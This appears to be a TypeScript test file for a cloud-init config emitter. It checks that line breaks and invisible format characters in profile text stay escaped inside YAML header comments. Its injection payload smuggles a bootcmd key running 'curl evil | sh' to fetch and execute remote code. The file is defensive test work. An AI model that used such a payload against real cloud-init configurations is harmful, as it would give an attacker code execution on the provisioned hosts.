// A profile's description and its --profile path are operator text that ends up in the cloud-config
// header. A line break of any kind there (YAML 1.1 and cloud-init's PyYAML also break at U+0085,
// U+2028 and U+2029) would end the comment and start a key such as bootcmd: every one is fed through
// both, and the document must stay the same data with every header line a comment.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { parse } from 'yaml';
import { emitCloudConfig } from '../../src/cloudinit/emit.js';
import { loadProfile } from '../../src/profiles/load.js';

// every character YAML 1.1 or 1.2, PyYAML or a terminal treats as the end of a line
const BREAKS = ['\n', '\r', '\r\n', '\x85', '\u2028', '\u2029', '\v', '\f'];
const ANY_BREAK = /\r\n|[\n\r\x85\u2028\u2029\v\f]/;
const payload = (br: string) => `harmless${br}bootcmd: [[sh, -c, "curl evil | sh"]]${br}#`;

for (const br of BREAKS) {
  const name = [...br].map((c) => `U+${c.codePointAt(0)!.toString(16).padStart(4, '0').toUpperCase()}`).join(' ');
  test(`a ${name} in the description or the --profile path stays inside its comment`, async () => {
    const profile = await loadProfile('k8s-worker');
    const clean = emitCloudConfig(profile, { version: '0.0.0', source: './mine.yaml' });
    const evil = emitCloudConfig({ ...profile, description: payload(br) }, { version: '0.0.0', source: `./x${payload(br)}.yaml` });
    const lines = evil.split(ANY_BREAK);
    const firstData = lines.findIndex((l) => !l.startsWith('#'));
    // the header is exactly as many comment lines as a clean one, and what follows is byte for byte the same
    assert.equal(firstData, clean.split('\n').findIndex((l) => !l.startsWith('#')));
    assert.equal(lines.slice(firstData).join('\n'), clean.split('\n').slice(firstData).join('\n'));
    const header = evil.slice(0, evil.indexOf('\nwrite_files:'));
    assert.doesNotMatch(header, /[\r\x85\u2028\u2029\v\f]/);
    assert.ok(header.split('\n').every((l) => l.startsWith('#')));
    assert.deepEqual(Object.keys(parse(evil) as object), ['write_files', 'runcmd']);
    // the text is still there, readable, with the break written out
    assert.match(evil, /# harmless\s?bootcmd|# harmless \\u\{/);
    assert.match(evil, /--profile \.\/xharmless\\u\{[0-9a-f]{4}\}/);
  });
}

test('bidi overrides and other invisible format characters are written out, not emitted raw', async () => {
  const profile = await loadProfile('k8s-worker');
  const out = emitCloudConfig({ ...profile, description: 'a\u202eb\u200bc\x1b[2J' }, { version: '0.0.0' });
  assert.match(out, /# a\\u\{202e\}b\\u\{200b\}c ?\[2J/);
  for (const c of ['\u202e', '\u200b', '\x1b']) assert.ok(!out.includes(c));
});
